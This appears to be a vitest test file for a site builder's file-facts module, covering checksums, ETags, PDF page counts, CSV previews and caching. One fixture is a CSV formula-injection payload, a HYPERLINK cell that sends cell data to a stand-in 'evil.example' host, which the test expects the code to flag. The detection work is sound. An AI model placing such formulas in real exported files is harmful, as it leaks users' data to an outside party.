import { describe, expect, it } from 'vitest';
import { buildSite } from '../../src/content/buildSite.js';
import { sha256 } from '../../src/content/contentCache.js';
import { fileFacts, FileFactsCache, TABLE_PREVIEW_ROWS } from '../../src/content/fileFacts.js';
import { sha256Hex, strongEtag } from '../../src/content/fileInfo.js';
import { ContentLoader } from '../../src/content/loadContent.js';
import { documentPage, libraryFiles, memoryFolderOf, tinyPdf } from '../helpers/documents.js';

const facts = (bytes: Buffer, kind: 'csv' | 'pdf') => fileFacts(bytes, kind, sha256(bytes));

describe('file facts', () => {
  it('are the checksum, the ETag, the page count and the table, from the bytes', () => {
    const pdf = tinyPdf(4);
    expect(facts(pdf, 'pdf')).toEqual({
      sniffed: { ok: true, kind: 'pdf' },
      sha256: sha256Hex(pdf),
      etag: strongEtag(pdf),
      pageCount: 4,
    });
    const csv = Buffer.from('a,b\n1,2\n3\n');
    expect(facts(csv, 'csv').csv).toEqual({
      ok: true,
      table: {
        header: ['a', 'b'],
        rows: [
          ['1', '2'],
          ['3', ''],
        ],
        totalRows: 2,
      },
      ragged: { row: 3, fields: 1, line: 3, count: 1 },
      formulas: null,
    });
  });

  it('keep only the first rows of a large CSV file for the table, and count the rest', () => {
    const csv = Buffer.from(`n\n${Array.from({ length: 5000 }, (_, i) => `${i}`).join('\n')}\n`);
    const table = (facts(csv, 'csv').csv as { table: { rows: string[][]; totalRows: number } }).table;
    expect(table.rows).toHaveLength(TABLE_PREVIEW_ROWS);
    expect(table.totalRows).toBe(5000);
  });

  it('find cells that spreadsheet programs would run as formulas', () => {
    const csv = Buffer.from(
      'name,value\nA,-12.5\nB,+44 121 496 0000\nC,"=HYPERLINK(""https://evil.example/?d=""&A1)"\nD,@SUM(1)\nE,-1+2\n',
    );
    expect(facts(csv, 'csv').csv).toMatchObject({
      ok: true,
      formulas: { count: 3, first: { row: 4, column: 2, line: 4, text: '=HYPERLINK("https://evil.example/?d="&A1)' } },
    });
  });

  it('report a CSV file that cannot be read at the line of the problem', () => {
    expect(facts(Buffer.from('a,b\n1,2\n3,"open\n'), 'csv').csv).toEqual({
      ok: false,
      line: 3,
      message: expect.stringContaining('never closed'),
    });
    expect(facts(Buffer.from(',\n1,2\n'), 'csv').csv).toEqual({
      ok: false,
      line: 1,
      message: expect.stringContaining('header row'),
    });
  });
});

describe('the file facts cache', () => {
  const files = libraryFiles({
    'documents/report/index.md': documentPage({ files: 'files:\n  - file: report.pdf\n  - file: data.csv' }),
    'documents/report/report.pdf': tinyPdf(3),
    'documents/report/data.csv': 'a,b\n1,2\n',
  });

  it('works out a file once while its bytes are the same, however often the site is reloaded', () => {
    const cache = new FileFactsCache();
    const first = buildSite(memoryFolderOf(files), { fileFacts: cache });
    expect([cache.hits, cache.misses]).toEqual([0, 2]);
    // A full reload (SIGHUP) reads every file again: new buffers, same bytes.
    const second = buildSite(memoryFolderOf(files), { fileFacts: cache });
    expect([cache.hits, cache.misses]).toEqual([2, 0]);
    expect(second.site!.library.documents.get('report')!.files[1]!.table).toBe(
      first.site!.library.documents.get('report')!.files[1]!.table,
    );
    // An unrelated page edit reuses every file's facts too.
    buildSite(memoryFolderOf({ ...files, 'index.md': `${files['index.md']}\nMore text.\n` }), { fileFacts: cache });
    expect([cache.hits, cache.misses]).toEqual([2, 0]);
  });

  it('works out a changed file again, and forgets files that are gone', () => {
    const cache = new FileFactsCache();
    buildSite(memoryFolderOf(files), { fileFacts: cache });
    const changed = buildSite(memoryFolderOf({ ...files, 'documents/report/report.pdf': tinyPdf(5) }), {
      fileFacts: cache,
    });
    expect([cache.hits, cache.misses]).toEqual([1, 1]);
    expect(changed.site!.library.documents.get('report')!.files[0]!.pageCount).toBe(5);
    const { 'documents/report/report.pdf': _gone, ...rest } = files;
    buildSite(
      memoryFolderOf({ ...rest, 'documents/report/index.md': documentPage({ files: 'files:\n  - file: data.csv' }) }),
      { fileFacts: cache },
    );
    expect(cache.size).toBe(1);
  });
});

describe('the content loader', () => {
  const files = libraryFiles({
    'documents/report/index.md': documentPage({ files: 'files:\n  - file: report.pdf\n  - file: data.csv' }),
    'documents/report/report.pdf': tinyPdf(3),
    'documents/report/data.csv': 'a,b\n1,2\n',
  });

  it(
    'keeps file facts beside its parsed pages: a full reload works out no ' +
      'file again, and trying an edit keeps nothing',
    async () => {
      // Every readAll reads the folder again: new buffers, the same bytes.
      const loader = new ContentLoader({
        root: '/memory',
        readAll: async () => memoryFolderOf(files),
        readPaths: async () => [],
      });
      const first = await loader.load('all', 0);
      expect(first.build.site).not.toBeNull();
      expect(loader.fileFactsStats).toEqual({ hits: 0, misses: 2, size: 2 });
      const second = await loader.load('all', 0);
      // Nothing changed: the library is the earlier build's (see crossPageReuse.ts), or its files' facts are kept.
      expect(loader.fileFactsStats).toMatchObject({ misses: 0, size: 2 });
      expect(second.build.site!.library.documents.get('report')!.files[1]!.table).toBe(
        first.build.site!.library.documents.get('report')!.files[1]!.table,
      );
      // A trial of a changed data file works it out without keeping it.
      const trial = loader.validateEdit('documents/report/data.csv', Buffer.from('a,b\n=1+1,2\n'), 0);
      expect(trial.diagnostics.map((d) => [d.file, d.severity])).toEqual([['documents/report/data.csv', 'warning']]);
      await loader.load([], 0);
      expect(loader.fileFactsStats).toMatchObject({ misses: 0, size: 2 });
    },
  );
});
